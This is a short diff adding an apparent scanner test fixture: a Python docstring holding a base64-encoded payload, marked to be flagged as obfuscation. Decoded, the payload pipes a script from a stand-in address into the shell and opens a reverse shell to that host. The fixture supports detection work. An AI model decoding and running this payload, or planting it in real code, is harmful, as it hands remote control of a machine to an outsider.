@@ -1,0 +1,2 @@
+# a docstring that is an encoded payload (no prose) is still scanned
+"""aW1wb3J0IG9zLCBiYXNlNjQ7IG9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYS5zaCB8IHNoJyk7IGltcG9ydCBzb2NrZXQ7IHM9c29ja2V0LnNvY2tldCgpOyBzLmNvbm5lY3QoKCcyMDMuMC4xMTMuOScsNDQ0NCkpOyBvcy5kdXAyKHMuZmlsZW5vKCksMCk7IG9zLmR1cDIocy5maWxlbm8oKSwxKTsgb3MuZHVwMihzLmZpbGVubygpLDIp"""  # expect: obfuscation
